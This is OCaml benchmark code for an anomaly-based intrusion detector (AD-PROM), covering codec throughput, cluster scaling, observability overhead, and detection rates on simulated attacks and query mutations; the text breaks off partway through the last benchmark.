  | Error e -> failwith (C.id ^ " round-trip failed: " ^ e));
  let enc_s =
    best_of rounds (fun () ->
        let enc = C.encoder () in
        let buf = Buffer.create (2 * chunk) in
        Array.iter
          (fun it ->
            C.encode enc buf it;
            if Buffer.length buf >= chunk then Buffer.clear buf (* "flush" *))
          items;
        C.flush enc buf)
  in
  let consumed = ref 0 in
  let eat () it = consumed := !consumed + Transport.item_session it in
  let dec_s =
    best_of rounds (fun () ->
        let dec = C.decoder () in
        let n = String.length bytes in
        let pos = ref 0 in
        while !pos < n do
          let len = min chunk (n - !pos) in
          (match C.fold dec ~pos:!pos ~len bytes ~init:() ~f:eat with
          | Ok () -> ()
          | Error e -> failwith (C.id ^ " decode failed: " ^ e));
          pos := !pos + len
        done;
        match C.finish dec with
        | Ok its -> List.iter (eat ()) its
        | Error e -> failwith (C.id ^ " finish failed: " ^ e))
  in
  if !consumed < 0 then failwith "unreachable";
  (String.length bytes, enc_s, dec_s)

let codec_showdown stream =
  Common.heading "Wire codec: binary frames vs text lines (encode + decode)";
  let items = items_of_stream stream in
  let rounds = codec_rounds () in
  let n = Array.length items in
  let text_bytes, text_enc, text_dec = codec_pass (module Transport.Text) items rounds in
  let bin_bytes, bin_enc, bin_dec = codec_pass (module Frame.T) items rounds in
  let text_s = text_enc +. text_dec and bin_s = bin_enc +. bin_dec in
  let rate s = float_of_int n /. s in
  let speedup = rate bin_s /. rate text_s in
  let per_item bytes = float_of_int bytes /. float_of_int (Array.length items) in
  Adprom.Report.print
    ~header:
      [ "codec"; "encode items/s"; "decode items/s"; "combined"; "speedup"; "bytes/item" ]
    [
      [
        "text lines";
        Printf.sprintf "%.0f" (rate text_enc);
        Printf.sprintf "%.0f" (rate text_dec);
        Printf.sprintf "%.0f" (rate text_s);
        "1.00x";
        Printf.sprintf "%.1f" (per_item text_bytes);
      ];
      [
        "binary frames";
        Printf.sprintf "%.0f" (rate bin_enc);
        Printf.sprintf "%.0f" (rate bin_dec);
        Printf.sprintf "%.0f" (rate bin_s);
        Printf.sprintf "%.2fx" speedup;
        Printf.sprintf "%.1f" (per_item bin_bytes);
      ];
    ];
  Printf.printf "round-trips asserted equal on %d items per round\n"
    (Array.length items);
  (rate text_s, rate bin_s, speedup, per_item text_bytes, per_item bin_bytes)

(* --- cluster scaling ---------------------------------------------------- *)

let spawn_nodes profile ~queue_capacity names =
  List.map
    (fun name ->
      Cluster.spawn_local ~name (fun socket ->
          ignore
            (Server.serve ~socket ~name ~shards:1 ~queue_capacity
               ~keep_verdicts:false profile)))
    names

(* [route_burst] times the {e ingest window}: offering the whole
   stream, flushing every connection, and a metrics round-trip — each
   node answers [Metrics_req] only after every prior frame on the
   connection, so when the clock stops every offered event has been
   accepted or shed by its node. The drain-and-score work behind
   [finish] stays outside the window: on this single-core box the
   scaling claim is a {e capacity} result (two bounded queues accept
   twice the events before shedding), not a parallelism one, and
   scoring time is proportional to whatever was accepted. *)
let route_burst nodes stream =
  let peers =
    List.map
      (fun (l : Cluster.local) ->
        { Cluster.peer_name = l.Cluster.name; host = "127.0.0.1"; port = l.Cluster.port })
      nodes
  in
  match Cluster.Router.connect peers with
  | Error e -> failwith ("router connect: " ^ e)
  | Ok router -> (
      let items = Array.map (fun ev -> Transport.Call ev) stream in
      let ((), ingest_s) =
        Common.time (fun () ->
            (match Cluster.Router.send_stream router items with
            | Error e -> failwith ("router send: " ^ e)
            | Ok () -> ());
            (match Cluster.Router.flush_all router with
            | Error e -> failwith ("router flush: " ^ e)
            | Ok () -> ());
            match Cluster.Router.metrics router with
            | Error e -> failwith ("router metrics: " ^ e)
            | Ok _ -> ())
      in
      let result = Cluster.Router.finish router in
      List.iter Cluster.wait_local nodes;
      match result with
      | Error e -> failwith ("router finish: " ^ e)
      | Ok summaries -> (Cluster.merge summaries, ingest_s))

let accepted_rate (m : Frame.node_summary) seconds =
  float_of_int m.Frame.summary.Daemon.events_ingested /. seconds

let scaling profile stream =
  Common.heading
    (Printf.sprintf
       "Cluster scaling: 1 vs 2 serve nodes, fixed per-node queue capacity (%d)"
       capacity);
  (* median of three bursts per configuration: each burst forks fresh
     nodes, and one preempted window must not decide the figure *)
  let median names =
    let runs =
      List.init 3 (fun _ ->
          route_burst (spawn_nodes profile ~queue_capacity:capacity names) stream)
    in
    match List.sort (fun (_, a) (_, b) -> compare a b) runs with
    | [ _; mid; _ ] -> mid
    | _ -> assert false
  in
  let one, one_s = median [ "solo" ] in
  let two, two_s = median [ "alpha"; "beta" ] in
  let offered = Array.length stream in
  let row name (m : Frame.node_summary) seconds =
    let s = m.Frame.summary in
    [
      name;
      Printf.sprintf "%d" s.Daemon.events_ingested;
      Printf.sprintf "%d" s.Daemon.events_dropped;
      Printf.sprintf "%.0f" (accepted_rate m seconds);
    ]
  in
  let scale = accepted_rate two two_s /. accepted_rate one one_s in
  Adprom.Report.print
    ~header:[ "nodes"; "ingested"; "shed"; "accepted events/sec" ]
    [ row "1 (solo)" one one_s; row "2 (alpha+beta)" two two_s ];
  Printf.printf
    "%d events offered per run; 2-node aggregate accepted throughput = %.2fx 1-node\n"
    offered scale;
  (accepted_rate one one_s, accepted_rate two two_s, scale)

(* --- observability overhead ---------------------------------------------- *)

let http_get ~port target =
  let fd = Unix.socket Unix.PF_INET Unix.SOCK_STREAM 0 in
  Fun.protect
    ~finally:(fun () -> try Unix.close fd with Unix.Unix_error _ -> ())
    (fun () ->
      Unix.connect fd (Unix.ADDR_INET (Unix.inet_addr_loopback, port));
      let b =
        Bytes.of_string
          (Printf.sprintf "GET %s HTTP/1.1\r\nHost: bench\r\n\r\n" target)
      in
      let rec write pos =
        if pos < Bytes.length b then
          write (pos + Unix.write fd b pos (Bytes.length b - pos))
      in
      write 0;
      let buf = Buffer.create 4096 and chunk = Bytes.create 4096 in
      let rec read () =
        match Unix.read fd chunk 0 4096 with
        | 0 -> ()
        | n ->
            Buffer.add_subbytes buf chunk 0 n;
            read ()
      in
      read ();
      Buffer.contents buf)

(* a forked 1 Hz Prometheus scraper: what a real deployment aims at the
   nodes' /metrics + /healthz endpoints while they ingest *)
let spawn_scraper ports =
  match Unix.fork () with
  | 0 ->
      (try
         while true do
           List.iter
             (fun port ->
               List.iter
                 (fun target ->
                   match http_get ~port target with
                   | _ -> ()
                   | exception _ -> ())
                 [ "/metrics"; "/healthz" ])
             ports;
           Unix.sleepf 1.0
         done
       with _ -> ());
      Unix._exit 0
  | pid -> pid

let verdict_key (v : Adprom.Detector.verdict) =
  ( v.Adprom.Detector.flag,
    Int64.bits_of_float v.Adprom.Detector.score,
    v.Adprom.Detector.unknown_symbol,
    v.Adprom.Detector.unknown_pair )

let session_key (r : Daemon.session_report) =
  ( r.Daemon.session,
    r.Daemon.events,
    r.Daemon.windows,
    r.Daemon.worst,
    List.map verdict_key r.Daemon.verdicts,
    r.Daemon.qsig_checks,
    r.Daemon.qsig_anomalies )

(* [observability] prices the whole operations plane at once: the
   router propagates Trace_marks (so every node materializes wire
   spans) while a forked scraper hits both nodes' HTTP endpoints at
   1 Hz, and the instrumented ingest rate is compared to a bare run.
   Ample queue capacity keeps both configurations shed-free, so the
   instrumented verdicts must also be bit-for-bit the bare run's —
   observation must never change what the detector says. *)
let observability profile stream =
  Common.heading
    "Observability overhead: trace propagation + 1 Hz HTTP scraper vs bare";
  let ample = 1 lsl 20 in
  (* tile the stream to a >= 100k-event burst: a sub-10ms ingest window
     would price one scrape against the whole run and report noise, not
     overhead (tiling extends every session, which is fine — both
     configurations replay the identical stream) *)
  let stream =
    let tiles =
      max 1 ((100_000 + Array.length stream - 1) / Array.length stream)
    in
    Array.concat (List.init tiles (fun _ -> stream))
  in
  let burst ~observed () =
    let nodes =
      List.map
        (fun name ->
          Cluster.spawn_local ~name (fun socket ->
              ignore
                (Server.serve ~socket ~name ~shards:1 ~queue_capacity:ample
                   profile)))
        [ "alpha"; "beta" ]
    in
    let scraper =
      if observed then
        Some
          (spawn_scraper
             (List.map (fun (l : Cluster.local) -> l.Cluster.port) nodes))
      else None
    in
    if observed then Adprom_obs.Trace.set_enabled true;
    Fun.protect
      ~finally:(fun () ->
        Adprom_obs.Trace.set_enabled false;
        Adprom_obs.Trace.clear ();
        match scraper with
        | None -> ()
        | Some pid -> (
            try
              Unix.kill pid Sys.sigterm;
              ignore (Unix.waitpid [] pid)
            with Unix.Unix_error _ -> ()))
      (fun () -> route_burst nodes stream)
  in
  let median f =
    let runs = List.init 3 (fun _ -> f ()) in
    match List.sort (fun (_, a) (_, b) -> compare a b) runs with
    | [ _; mid; _ ] -> mid
    | _ -> assert false
  in
  let bare, bare_s = median (burst ~observed:false) in
  let obs, obs_s = median (burst ~observed:true) in
  if
    List.map session_key bare.Frame.summary.Daemon.sessions
    <> List.map session_key obs.Frame.summary.Daemon.sessions
  then failwith "observability changed the verdicts";
  let bare_rate = accepted_rate bare bare_s
  and obs_rate = accepted_rate obs obs_s in
  let overhead = (bare_rate -. obs_rate) /. bare_rate in
  Adprom.Report.print
    ~header:[ "configuration"; "ingested"; "events/sec"; "overhead" ]
    [
      [
        "bare";
        Printf.sprintf "%d" bare.Frame.summary.Daemon.events_ingested;
        Printf.sprintf "%.0f" bare_rate;
        "-";
      ];
      [
        "traced + scraped";
        Printf.sprintf "%d" obs.Frame.summary.Daemon.events_ingested;
        Printf.sprintf "%.0f" obs_rate;
        Printf.sprintf "%.1f%%" (100. *. overhead);
      ];
    ];
  Printf.printf
    "%d events per burst; verdicts bit-for-bit identical under observation; \
     bar: overhead <= 3%%\n"
    (Array.length stream);
  (bare_rate, obs_rate, overhead)

(* --- verdict integrity under ample capacity ------------------------------ *)

let integrity profile stream =
  Common.heading "Verdict integrity: merged 2-node summary vs single-node replay";
  let ample = 1 lsl 20 in
  (* fork first: the parent's reference replay spawns domains *)
  let nodes =
    List.map
      (fun name ->
        Cluster.spawn_local ~name (fun socket ->
            ignore
              (Server.serve ~socket ~name ~shards:2 ~queue_capacity:ample profile)))
      [ "alpha"; "beta" ]
  in
  let merged, _ = route_burst nodes stream in
  let single = Replay.run ~shards:2 ~queue_capacity:ample profile stream in
  let s = single.Replay.summary and m = merged.Frame.summary in
  let ok =
    s.Daemon.events_ingested = m.Daemon.events_ingested
    && s.Daemon.events_dropped = 0
    && m.Daemon.events_dropped = 0
    && List.map session_key s.Daemon.sessions
       = List.map session_key m.Daemon.sessions
    && List.sort compare
         (List.map
            (fun (i : Alerts.incident) ->
              (i.Alerts.session, Alerts.source_to_string i.Alerts.source))
            (Alerts.incidents single.Replay.alerts))
       = List.sort compare merged.Frame.incidents
  in
  if not ok then failwith "cluster verdicts diverged from the single-node replay";
  Printf.printf
    "%d sessions, %d events: session reports, verdict score bits and the\n\
     incident multiset are identical across the 2-node and 1-node paths\n"
    (List.length s.Daemon.sessions)
    s.Daemon.events_ingested;
  ok

let run () =
  let profile, stream = workload () in
  let text_rate, bin_rate, codec_speedup, text_bpi, bin_bpi =
    codec_showdown stream
  in
  let one_rate, two_rate, scale = scaling profile stream in
  (* observability before integrity: integrity's reference replay spawns
     domains in this process, after which forking nodes is unsafe *)
  let bare_rate, obs_rate, overhead = observability profile stream in
  let bit_for_bit = integrity profile stream in
  let oc = open_out "BENCH_cluster.json" in
  Printf.fprintf oc
    "{\n\
    \  \"smoke\": %b,\n\
    \  \"codec_items_per_sec_text\": %.1f,\n\
    \  \"codec_items_per_sec_binary\": %.1f,\n\
    \  \"codec_speedup\": %.2f,\n\
    \  \"bytes_per_item_text\": %.1f,\n\
    \  \"bytes_per_item_binary\": %.1f,\n\
    \  \"events_per_sec_1node\": %.1f,\n\
    \  \"events_per_sec_2node\": %.1f,\n\
    \  \"cluster_scale_factor\": %.2f,\n\
    \  \"events_per_sec_bare\": %.1f,\n\
    \  \"events_per_sec_observed\": %.1f,\n\
    \  \"observability_overhead_frac\": %.4f,\n\
    \  \"observability_overhead_ok\": %b,\n\
    \  \"verdicts_bit_for_bit\": %b\n\
     }\n"
    !Common.smoke text_rate bin_rate codec_speedup text_bpi bin_bpi one_rate
    two_rate scale bare_rate obs_rate overhead (overhead <= 0.03) bit_for_bit;
  close_out oc;
  Printf.printf "wrote BENCH_cluster.json\n"

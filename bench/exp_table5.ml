(* Table V: AD-PROM vs CMarkov on the five attacks of Sec. V-C. A system
   "detects" an attack when any window of the malicious run is flagged;
   AD-PROM "connects to source" when the Data-Leak flag fires (the
   anomalous window carries a DB-output label). *)

let trained_for (app : Adprom.Pipeline.app) =
  let pick (_, t) =
    (Lazy.force t).Common.dataset.Adprom.Pipeline.app.Adprom.Pipeline.name
    = app.Adprom.Pipeline.name
  in
  match List.find_opt pick (Common.ca_all ()) with
  | Some (_, t) -> Lazy.force t
  | None -> Common.prepare app

let verdicts profile traces =
  (* one compiled engine per profile: windows repeated across the attack
     runs hit the verdict memo instead of re-running the forward pass *)
  let engine = Adprom.Scoring.of_profile profile in
  List.concat_map
    (fun (_, trace) -> List.map snd (Adprom.Scoring.monitor engine trace))
    traces

let run () =
  Common.heading "Table V: AD-PROM vs CMarkov (attack detection)";
  let rows =
    List.map
      (fun (case : Dataset.Ca_attacks.case) ->
        let trained = trained_for case.Dataset.Ca_attacks.app in
        let traces =
          Attack.Scenario.run case.Dataset.Ca_attacks.scenario case.Dataset.Ca_attacks.app
        in
        let describe profile =
          let vs = verdicts profile traces in
          let worst = Adprom.Detector.worst vs in
          match worst with
          | Adprom.Detector.Normal -> "undetected"
          | Adprom.Detector.Data_leak -> "detected & connected to source"
          | Adprom.Detector.Anomalous | Adprom.Detector.Out_of_context -> "detected"
        in
        [
          case.Dataset.Ca_attacks.label;
          case.Dataset.Ca_attacks.app.Adprom.Pipeline.name;
          describe (Lazy.force trained.Common.cmarkov);
          describe (Lazy.force trained.Common.adprom);
        ])
      (Dataset.Ca_attacks.all ())
  in
  Adprom.Report.print ~header:[ ""; "target"; "CMarkov"; "AD-PROM" ] rows;
  Printf.printf
    "\nExpected shape (paper): CMarkov misses Attacks 1 and 3; AD-PROM detects\n\
     all five and connects each to the data source.\n"

(* Query-signature axis: detection rate on the query-mutation family
   (the workloads the call-sequence HMM is blind to) and the per-check
   cost of the compiled engine next to the HMM's per-event cost — the
   price of running both axes. Writes BENCH_qsig.json for the CI
   artifact. *)

module Engine = Adprom_qsig.Engine
module Qmutate = Attack.Qmutate

let variants () = if !Common.smoke then 2 else 4
let check_passes () = if !Common.smoke then 20 else 200

type det_row = {
  scenario : string;
  cases : int;
  flagged_cases : int;  (** test cases with >= 1 anomalous query *)
}

let detection_rows app engine =
  List.map
    (fun scenario ->
      let logs = Qmutate.run_logs scenario app in
      let flagged =
        List.filter
          (fun (_, qlog) ->
            List.exists
              (fun (sql, rows) ->
                (Engine.check ~rows engine sql).Engine.anomalous)
              qlog)
          logs
      in
      {
        scenario = scenario.Attack.Scenario.id;
        cases = List.length logs;
        flagged_cases = List.length flagged;
      })
    (Qmutate.family ~variants:(variants ()) ())

(* Steady-state per-check cost: the memoized static path plus the
   per-call band check, which is what every post-warmup query pays. *)
let qsig_ns_per_check engine corpus =
  List.iter (fun (sql, rows) -> ignore (Engine.check ~rows engine sql)) corpus;
  let n = check_passes () in
  let _, seconds =
    Common.time (fun () ->
        for _ = 1 to n do
          List.iter
            (fun (sql, rows) -> ignore (Engine.check ~rows engine sql))
            corpus
        done)
  in
  1e9 *. seconds /. float_of_int (n * List.length corpus)

(* The sequence axis' per-event cost on the same workload: classify the
   normal windows (memo off — the forward pass, not the cache) and
   divide by events scored. *)
let hmm_ns_per_event profile windows =
  let eng = Adprom.Scoring.create ~cache_capacity:0 profile in
  List.iter (fun w -> ignore (Adprom.Scoring.classify eng w)) windows;
  let n = check_passes () in
  let _, seconds =
    Common.time (fun () ->
        for _ = 1 to n do
          List.iter (fun w -> ignore (Adprom.Scoring.classify eng w)) windows
        done)
  in
  let events =
    List.fold_left (fun acc (w : Adprom.Window.t) -> acc + Array.length w.Adprom.Window.obs) 0 windows
  in
  1e9 *. seconds /. float_of_int (n * events)

let run () =
  Common.heading "qsig: query-signature axis detection and overhead";
  let trained = Lazy.force Common.ca_banking in
  let app = trained.Common.dataset.Adprom.Pipeline.app in
  let profile = Lazy.force trained.Common.adprom in
  let qengine = Adprom.Pipeline.train_qsig_engine app in
  let rows = detection_rows app qengine in
  Printf.printf "%-36s %8s %10s\n" "scenario" "cases" "flagged";
  List.iter
    (fun r -> Printf.printf "%-36s %8d %10d\n%!" r.scenario r.cases r.flagged_cases)
    rows;
  let scenarios = List.length rows in
  let caught = List.length (List.filter (fun r -> r.flagged_cases > 0) rows) in
  let rate = float_of_int caught /. float_of_int (max 1 scenarios) in
  (* the per-check corpus: every executed query of the normal runs *)
  let corpus =
    List.concat_map
      (fun (o : Runtime.Interp.outcome) -> o.Runtime.Interp.query_log)
      (Adprom.Pipeline.collect_outcomes app)
  in
  let qsig_ns = qsig_ns_per_check qengine corpus in
  let hmm_ns =
    hmm_ns_per_event profile trained.Common.dataset.Adprom.Pipeline.windows
  in
  let ratio = if hmm_ns > 0.0 then qsig_ns /. hmm_ns else 0.0 in
  Printf.printf
    "\ndetection: %d/%d scenarios flagged (rate %.2f)\n\
     per-check: qsig %.0f ns, HMM %.0f ns/event (ratio %.3f)\n"
    caught scenarios rate qsig_ns hmm_ns ratio;
  let oc = open_out "BENCH_qsig.json" in
  Printf.fprintf oc "{\n  \"smoke\": %b,\n" !Common.smoke;
  Printf.fprintf oc
    "  \"detection\": {\"scenarios\": %d, \"caught\": %d, \"rate\": %.3f},\n"
    scenarios caught rate;
  Printf.fprintf oc
    "  \"overhead\": {\"qsig_ns_per_check\": %.1f, \"hmm_ns_per_event\": %.1f, \
     \"ratio\": %.4f, \"corpus\": %d},\n"
    qsig_ns hmm_ns ratio (List.length corpus);
  Printf.fprintf oc "  \"rows\": [\n";
  List.iteri
    (fun i r ->
      Printf.fprintf oc
        "    {\"scenario\": \"%s\", \"cases\": %d, \"flagged_cases\": %d}%s\n"
        r.scenario r.cases r.flagged_cases
        (if i = List.length rows - 1 then "" else ","))
    rows;
  Printf.fprintf oc "  ]\n}\n";
  close_out oc;
  Printf.printf "wrote BENCH_qsig.json\n"

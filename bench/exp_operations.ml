(* Operational experiments beyond the paper's evaluation:

   - interleaved-sessions: why the monitor must demultiplex concurrent
     processes before windowing (session-unaware windows alarm on
     perfectly normal activity);
   - drift: the Sec. VII mitigation — incremental retraining
     (Profile.extend) absorbs newly observed legitimate behaviour and
     removes its false positives without a full retrain. *)

let sessions () =
  Common.heading "Interleaved sessions: naive vs per-session windowing (normal traffic)";
  let t = Lazy.force Common.ca_banking in
  let ds = t.Common.dataset in
  let profile = Lazy.force t.Common.adprom in
  let rng = Mlkit.Rng.create 31337 in
  let traces = List.map snd ds.Adprom.Pipeline.traces in
  let groups =
    (* batches of 4 concurrent sessions *)
    let rec chunk acc cur n = function
      | [] -> List.rev (if cur = [] then acc else List.rev cur :: acc)
      | x :: rest ->
          if n = 4 then chunk (List.rev cur :: acc) [ x ] 1 rest
          else chunk acc (x :: cur) (n + 1) rest
    in
    chunk [] [] 0 traces
  in
  let engine = Adprom.Scoring.of_profile profile in
  let evaluate windows_of =
    let alarms = ref 0 and total = ref 0 in
    List.iter
      (fun group ->
        let host = Adprom.Sessions.interleave ~rng group in
        List.iter
          (fun w ->
            incr total;
            if (Adprom.Scoring.classify engine w).Adprom.Detector.flag <> Adprom.Detector.Normal
            then incr alarms)
          (windows_of host))
      groups;
    (!alarms, !total)
  in
  let naive_alarms, naive_total = evaluate (Adprom.Sessions.windows_naive ~window:15) in
  let demux_alarms, demux_total =
    evaluate (Adprom.Sessions.windows_per_session ~window:15)
  in
  Adprom.Report.print
    ~header:[ "windowing"; "windows"; "false alarms"; "FP rate" ]
    [
      [
        "host stream (naive)";
        string_of_int naive_total;
        string_of_int naive_alarms;
        Adprom.Report.percent_cell (float_of_int naive_alarms /. float_of_int (max 1 naive_total));
      ];
      [
        "per session (demux)";
        string_of_int demux_total;
        string_of_int demux_alarms;
        Adprom.Report.percent_cell (float_of_int demux_alarms /. float_of_int (max 1 demux_total));
      ];
    ];
  Printf.printf
    "\nExpected shape: interleaving fabricates call transitions, so the naive\n\
     monitor alarms on normal traffic; per-session demultiplexing does not.\n"

let drift () =
  Common.heading "Incremental retraining (Sec. VII): absorbing new legitimate behaviour";
  (* Train on sessions that only ever look patients up; the department
     report is a legitimate feature the training never exercised. *)
  let app = Dataset.Ca_hospital.app () in
  let analysis = Adprom.Pipeline.analyze_app app in
  let run tc = fst (Adprom.Pipeline.run_case ~analysis app tc) in
  let narrow =
    List.init 30 (fun i ->
        let pid = string_of_int (1000 + (i mod 25)) in
        Runtime.Testcase.make
          ~input:(if i mod 2 = 0 then [ "2"; pid; "0" ] else [ "3"; pid; "0" ])
          (Printf.sprintf "narrow-%d" i))
  in
  let rest =
    List.init 15 (fun i -> Runtime.Testcase.make ~input:[ "6"; "0" ] (Printf.sprintf "new-%d" i))
  in
  let windows_of tcs = List.concat_map (fun tc -> Adprom.Window.of_trace (run tc)) tcs in
  let train_windows = windows_of narrow in
  let new_windows = windows_of rest in
  let profile = Adprom.Profile.train ~analysis train_windows in
  let fp p ws =
    let engine = Adprom.Scoring.create p in
    List.length
      (List.filter
         (fun w -> (Adprom.Scoring.classify engine w).Adprom.Detector.flag <> Adprom.Detector.Normal)
         ws)
  in
  let before = fp profile new_windows in
  let extended = Adprom.Profile.extend profile new_windows in
  let after = fp extended new_windows in
  let still_detects =
    let rng = Mlkit.Rng.create 7 in
    let anomalies =
      Attack.Synthetic.batch ~rng ~legitimate:profile.Adprom.Profile.alphabet ~kind:`S2
        ~count:50 (train_windows @ new_windows)
    in
    fp extended anomalies
  in
  Adprom.Report.print
    ~header:[ ""; "false alarms on the new behaviour"; "A-S2 anomalies still caught" ]
    [
      [ "before extend"; Printf.sprintf "%d / %d" before (List.length new_windows); "-" ];
      [
        "after extend";
        Printf.sprintf "%d / %d" after (List.length new_windows);
        Printf.sprintf "%d / 50" still_detects;
      ];
    ];
  Printf.printf
    "\nExpected shape: the unseen-but-legitimate menu operations alarm before\n\
     the intermediate collection stage and stop alarming after it, while\n\
     foreign-call anomalies are still caught.\n"

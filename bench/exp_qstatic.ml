(* Static-gate cost on the query axis: the per-check price of the
   memoized gate in explain and enforce mode next to a gate-off engine
   on the banking corpus' in-profile traffic, plus the safety
   invariants (explain verdicts bit-for-bit identical to off, trained
   signatures contained in the static set). Writes BENCH_qstatic.json
   for the CI artifact. *)

module Engine = Adprom_qsig.Engine
module Qstatic = Analysis.Qstatic

let check_passes () = if !Common.smoke then 50 else 500

let ns_per_check engine corpus =
  (* warm the per-text memo first: steady state is what the gate adds to *)
  List.iter (fun (sql, rows) -> ignore (Engine.check ~rows engine sql)) corpus;
  let n = check_passes () in
  let _, seconds =
    Common.time (fun () ->
        for _ = 1 to n do
          List.iter
            (fun (sql, rows) -> ignore (Engine.check ~rows engine sql))
            corpus
        done)
  in
  1e9 *. seconds /. float_of_int (n * List.length corpus)

let run () =
  Common.heading "qstatic: static-signature gate overhead and invariants";
  let trained = Lazy.force Common.ca_banking in
  let app = trained.Common.dataset.Adprom.Pipeline.app in
  let analysis = Adprom.Pipeline.analyze_app app in
  let (static : Qstatic.result), infer_s =
    Common.time (fun () -> Qstatic.infer analysis.Analysis.Analyzer.pruned_cfgs)
  in
  let qsig = Adprom.Pipeline.train_qsig ~analysis app in
  let trained_sigs = Adprom_qsig.Profile.signatures (Adprom.Qsig.profile qsig) in
  let contained =
    List.for_all (fun s -> List.mem s static.Qstatic.signatures) trained_sigs
  in
  let corpus =
    List.concat_map
      (fun (o : Runtime.Interp.outcome) -> o.Runtime.Interp.query_log)
      (Adprom.Pipeline.collect_outcomes app)
  in
  let engine mode =
    let e = Adprom.Qsig.engine qsig in
    (match mode with
    | `Off -> ()
    | `Explain | `Enforce ->
        Engine.set_static_signatures e ~complete:static.Qstatic.complete
          static.Qstatic.signatures;
        Engine.set_gate_enforce e (mode = `Enforce));
    e
  in
  (* explain must be bit-for-bit: same verdict records on the same traffic *)
  let e_off = engine `Off and e_explain = engine `Explain in
  let bit_for_bit =
    List.for_all
      (fun (sql, rows) ->
        Engine.check ~rows e_off sql = Engine.check ~rows e_explain sql)
      corpus
  in
  let off_ns = ns_per_check (engine `Off) corpus in
  let explain_ns = ns_per_check (engine `Explain) corpus in
  let enforce_ns = ns_per_check (engine `Enforce) corpus in
  let overhead ns = if off_ns > 0.0 then (ns -. off_ns) /. off_ns else 0.0 in
  Printf.printf
    "inference: %d sites, %d signatures, complete=%b (%.1f ms)\n\
     invariants: trained-contained=%b, explain-bit-for-bit=%b\n\
     per-check: off %.0f ns, explain %.0f ns (%+.1f%%), enforce %.0f ns (%+.1f%%)\n"
    (List.length static.Qstatic.sites)
    (List.length static.Qstatic.signatures)
    static.Qstatic.complete (1e3 *. infer_s) contained bit_for_bit off_ns
    explain_ns
    (100.0 *. overhead explain_ns)
    enforce_ns
    (100.0 *. overhead enforce_ns);
  let oc = open_out "BENCH_qstatic.json" in
  Printf.fprintf oc "{\n  \"smoke\": %b,\n" !Common.smoke;
  Printf.fprintf oc
    "  \"inference\": {\"sites\": %d, \"signatures\": %d, \"complete\": %b, \
     \"infer_ms\": %.2f},\n"
    (List.length static.Qstatic.sites)
    (List.length static.Qstatic.signatures)
    static.Qstatic.complete (1e3 *. infer_s);
  Printf.fprintf oc
    "  \"invariants\": {\"trained_contained\": %b, \"explain_bit_for_bit\": %b},\n"
    contained bit_for_bit;
  Printf.fprintf oc
    "  \"overhead\": {\"off_ns_per_check\": %.1f, \"explain_ns_per_check\": %.1f, \
     \"enforce_ns_per_check\": %.1f, \"explain_overhead\": %.4f, \
     \"enforce_overhead\": %.4f, \"corpus\": %d}\n"
    off_ns explain_ns enforce_ns (overhead explain_ns) (overhead enforce_ns)
    (List.length corpus);
  Printf.fprintf oc "}\n";
  close_out oc;
  Printf.printf "wrote BENCH_qstatic.json\n";
  if not contained then failwith "qstatic: trained signatures escape the static set";
  if not bit_for_bit then failwith "qstatic: explain mode changed a verdict"

(* Call-sequence automaton: construction cost and DFA size on a real
   subject, then the enforce gate's payoff — classify throughput with
   the gate off vs enforcing, on in-language windows (gate overhead:
   every window walks the DFA and none is rejected) and on
   out-of-language windows (gate payoff: the DFA walk short-circuits
   the HMM forward pass). Writes BENCH_seqauto.json for the CI
   artifact. *)

module Scoring = Adprom.Scoring
module Window = Adprom.Window
module Profile = Adprom.Profile
module Symbol = Analysis.Symbol

let passes () = if !Common.smoke then 10 else 100
let tampered_count () = if !Common.smoke then 200 else 2000

type row = {
  workload : string;
  windows : int;
  rejected : int;  (** DFA-rejected windows per pass (gate hits) *)
  off_ms : float;  (** ms per pass, gate off *)
  enforce_ms : float;  (** ms per pass, gate enforcing *)
}

let speedup r = if r.enforce_ms > 0.0 then r.off_ms /. r.enforce_ms else 0.0

(* Random-symbol windows over the profile's own alphabet: pairwise the
   symbols are familiar, but the sequences are (overwhelmingly) not
   factors of any execution — the short-circuit case the gate exists
   for. *)
let tampered_windows rng (profile : Profile.t) n =
  let alpha = profile.Profile.alphabet in
  let window = profile.Profile.params.Profile.window in
  List.init n (fun _ ->
      {
        Window.obs =
          Array.init window (fun _ -> Symbol.observable (Mlkit.Rng.pick rng alpha));
        callers = Array.make window "main";
      })

let time_passes eng ws =
  let n = passes () in
  let _, seconds =
    Common.time (fun () ->
        for _ = 1 to n do
          List.iter (fun w -> ignore (Scoring.classify eng w)) ws
        done)
  in
  1000.0 *. seconds /. float_of_int n

let measure ~name ~profile ~auto ws =
  (* cache_capacity 0: no memo, every classify pays the full forward
     pass — the comparison isolates the gate, not the memo *)
  let off = Scoring.create ~cache_capacity:0 profile in
  let enf = Scoring.create ~cache_capacity:0 profile in
  Scoring.set_static_dfa enf (Some auto);
  Scoring.set_gate_enforce enf true;
  let off_ms = time_passes off ws in
  let enforce_ms = time_passes enf ws in
  let rejected = Scoring.gate_rejections enf / passes () in
  { workload = name; windows = List.length ws; rejected; off_ms; enforce_ms }

let run () =
  Common.heading "seqauto: static DFA gate short-circuit";
  let trained = Lazy.force Common.ca_hospital in
  let profile = Lazy.force trained.Common.adprom in
  let analysis = trained.Common.dataset.Adprom.Pipeline.analysis in
  let auto, build_seconds =
    Common.time (fun () -> Adprom.Profile_check.automaton profile analysis)
  in
  let stats = auto.Analysis.Seqauto.stats in
  Printf.printf "automaton: %s  (built in %.1f ms)\n"
    (Analysis.Seqauto.stats_to_string stats)
    (1000.0 *. build_seconds);
  let rng = Mlkit.Rng.create 42 in
  let normal = trained.Common.dataset.Adprom.Pipeline.windows in
  let tampered = tampered_windows rng profile (tampered_count ()) in
  let rows =
    [
      measure ~name:"in-language" ~profile ~auto normal;
      measure ~name:"out-of-language" ~profile ~auto tampered;
    ]
  in
  Printf.printf "%-16s %8s %9s %10s %12s %9s\n" "workload" "windows" "rejected"
    "off ms" "enforce ms" "speedup";
  List.iter
    (fun r ->
      Printf.printf "%-16s %8d %9d %10.2f %12.2f %8.1fx\n%!" r.workload r.windows
        r.rejected r.off_ms r.enforce_ms (speedup r))
    rows;
  let oc = open_out "BENCH_seqauto.json" in
  Printf.fprintf oc "{\n  \"smoke\": %b,\n" !Common.smoke;
  Printf.fprintf oc
    "  \"automaton\": {\"functions\": %d, \"nfa_states\": %d, \"dfa_states\": %d, \
     \"alphabet\": %d, \"flat\": %b, \"build_ms\": %.3f},\n"
    stats.Analysis.Seqauto.functions stats.Analysis.Seqauto.nfa_states
    stats.Analysis.Seqauto.dfa_states stats.Analysis.Seqauto.dfa_width
    stats.Analysis.Seqauto.flat
    (1000.0 *. build_seconds);
  Printf.fprintf oc "  \"rows\": [\n";
  List.iteri
